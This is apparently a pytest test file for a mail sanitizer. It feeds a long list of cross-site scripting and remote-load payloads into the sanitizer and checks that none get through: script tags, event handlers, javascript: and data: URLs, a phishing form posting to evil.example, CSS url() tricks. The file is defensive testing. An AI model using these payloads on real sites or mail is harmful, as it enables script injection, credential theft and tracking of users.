"""A mail's HTML made harmless: nothing runs, sends, loads or leads away, whatever it tries."""

import base64
import re
import time

import pytest

from support.mailbox import bodies
from support.mailbox.contents.sent_page import (
    DEEPEST_PAGE,
    LONGEST_PAGE,
    kind_of_picture,
    sent_page,
)

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='cid:a' onload='alert(1)'>",
    "<body onload=alert(1)><p onclick=alert(1)>x</p>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a()&gt;'>",
    "<form action='https://evil.example'><input name=password><button>ok</button></form>",
    "<p><input type=image src=https://evil.example formaction=javascript:alert(1)></p>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/x'>",
    "<style>@import url(https://evil.example/x.css); p{background:url(https://evil.example/)}</style>",
    "<style><script>alert(1)</script></style>",
    "<p style='background:url(https://evil.example/p.png)'>x</p>",
    "<p style='background:u\\72l(https://evil.example/p.png)'>x</p>",
    "<p style='background:u/**/rl(https://evil.example/p.png)'>x</p>",
    "<p style='background-image:image-set(\"https://evil.example/p.png\" 1x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#default#time2);-moz-binding:url(https://evil.example)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<iframe src='https://e.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'><embed src='https://evil.example/x.swf'></object>",
    "<frameset><frame src='https://evil.example'></frameset>",
    "<video src=https://evil.example/x poster=https://evil.example/p></video>",
    "<audio autoplay><source src=https://evil.example/x onerror=alert(1)></audio>",
    "<picture><source srcset='https://evil.example/x'><img srcset='https://evil.example/y'></picture>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvA\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a><a href='/accounts/logout/'>x</a>",
    "<a href='https://x.example' ping='https://evil.example' onmouseover=alert(1)>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='DATA:image/png;base64,AAAA\" onerror=\"alert(1)'>",
    "<img src='cid:svg'><img src='cid:html'>",
    "<img src='/support/attachments/1/'><img src='//evil.example/p'><img src='file:///c:/x'>",
    "<img lowsrc=https://evil.example dynsrc=https://evil.example longdesc=https://evil.example>",
    "<table background='https://evil.example/p.png'><tr><td background='//e.example/p'>x</table>",
    "<p id=x name=y class=z slot=s contenteditable tabindex=1 accesskey=r>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='https://evil.example/x.css'?><p>x</p>",
    "<template><script>alert(1)</script></template><portal src=https://evil.example></portal>",
    "<isindex action=javascript:alert(1)><marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog>",
    "</div></body></html><script>alert(1)</script>",
]
PARTS = {"a": PNG, "svg": b"<svg onload='alert(1)'/>", "html": b"<script>alert(1)</script>"}
ALLOWED = re.compile(
    r"</?(?:a|b|br|div|hr|img|p|span|strong|table|tbody|td|tr|u|ul|li|font|center)(?=[ >])"
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_gets_through(payload):
    html = sent_page([f"<div>{payload}<b>fin</b></div>"], PARTS).html
    tags = re.findall(r"<[^>]*>", html)
    assert all(ALLOWED.match(tag) for tag in tags), tags
    for tag in tags:
        names = re.findall(r'([a-z-]+)="', tag)
        assert set(names) <= {
            "href", "target", "rel", "src", "style", "alt", "title", "align", "width",
        }, tag  # fmt: skip
        for target in re.findall(r'href="([^"]*)"', tag):
            assert target.startswith("https://"), tag
        for source in re.findall(r'src="([^"]*)"', tag):
            assert source.startswith("data:image/png;base64,iVBOR"), tag
        for style in re.findall(r'style="([^"]*)"', tag):
            assert not re.search(r"url|expression|position|behavior|binding|\\", style), tag


def test_what_carries_the_letter_stays():
    shown = sent_page(
        [
            '<p style="color:#c00; font-weight:bold">Total</p><table border="1" cellpadding="4">'
            '<tr><td colspan="2" style="background-color:#eee">12,40 €</td></tr></table>'
            '<a href="https://crisalid.example/a?b=1&amp;c=2">la fiche</a>'
        ],
        {},
    )
    assert "color:#c00" in shown.html
    assert "font-weight:bold" in shown.html
    assert 'colspan="2"' in shown.html
    assert 'href="https://crisalid.example/a?b=1&amp;c=2"' in shown.html
    assert 'target="_blank"' in shown.html
    assert "noopener noreferrer" in shown.html
    assert (shown.remote, shown.missing) == (0, 0)


def test_its_own_pictures_are_shown_and_those_on_servers_counted():
    shown = sent_page(
        [
            '<img src="cid:logo%40x" alt="Logo"><img src="CID:logo@x">'
            '<img src="https://a.example/1.png"><img src="https://a.example/1.png">'
            '<img src="//b.example/pixel"><td background="http://c.example/b.png">'
            '<p style="background:url(https://d.example/x)">x</p>'
            '<img src="cid:gone"><img src="cid:text">'
        ],
        {"logo@x": PNG, "text": b"no picture"},
    )
    assert shown.html.count("data:image/png;base64,") == 2
    assert 'alt="Logo"' in shown.html
    assert "example" not in shown.html
    # Each once; those that are there twice are one.
    assert shown.remote == 3
    assert shown.missing == 2


def test_a_picture_is_what_its_bytes_say():
    assert kind_of_picture(PNG) == "png"
    assert kind_of_picture(b"RIFF\0\0\0\0WEBPVP8 ") == "webp"
    assert kind_of_picture(b"<svg/>") == ""


def test_a_picture_named_a_thousand_times_is_not_sent_a_thousand_times():
    large = PNG + b"\0" * 3_000_000
    shown = sent_page(['<img src="cid:a">' * 1_000], {"a": large})
    assert len(shown.html) < 30_000_000
    assert shown.missing > 990


@pytest.mark.parametrize(
    "page",
    [
        "<div>" * (DEEPEST_PAGE + 1), "<b></z>" * 200_000, "<a><b>" * 100_000,
        "x" * (LONGEST_PAGE + 1),
    ],
    ids=["deep", "mismatched", "formatting", "long"],
)  # fmt: skip
def test_what_would_take_long_is_not_begun(page):
    began = time.monotonic()
    assert sent_page([page], {}).is_too_complex
    assert time.monotonic() - began < 2


def test_a_long_letter_with_a_large_picture_in_it_is_not_too_much():
    picture = base64.b64encode(PNG + b"\0" * 2_000_000).decode()
    page = f'<img src="data:image/png;base64,{picture}">' + "<tr><td><p>x" * 5_000
    shown = sent_page([page], {})
    assert not shown.is_too_complex
    assert shown.html.count("data:image/png") == 1


@pytest.mark.parametrize(
    ("page", "text"),
    [
        ('<p>Voir <a href="https://x.example/n?a=1&amp;b=2">la note</a>.</p>',
         "Voir la note <https://x.example/n?a=1&b=2>."),
        ('<p><a href="https://www.x.example/">x.example</a></p>', "x.example"),
        ("<p><a href=https://x.example/y>https://x.example/y</a></p>", "https://x.example/y"),
        ('<p><a href="mailto:a@b.fr">Paul</a></p>', "Paul"),
        ('<p><a href="javascript:alert(1)">x</a></p>', "x"),
        ('<p><a href="https://x.example/logo"><img src="cid:a"></a>Fin</p>', "Fin"),
        ("<p><a href='https://paypal.example.evil.fr/'>www.paypal.example</a></p>",
         "www.paypal.example <https://paypal.example.evil.fr/>"),
        ('<p><a name="a">Ancre</a></p>', "Ancre"),
    ],
)  # fmt: skip
def test_a_link_keeps_its_target_in_the_text(page, text):
    assert bodies.text_of_html(bodies.with_targets(page)) == text


def test_links_without_end_take_no_time():
    began = time.monotonic()
    bodies.with_targets('<a href="https://x.example">' * 60_000)
    assert time.monotonic() - began < 2
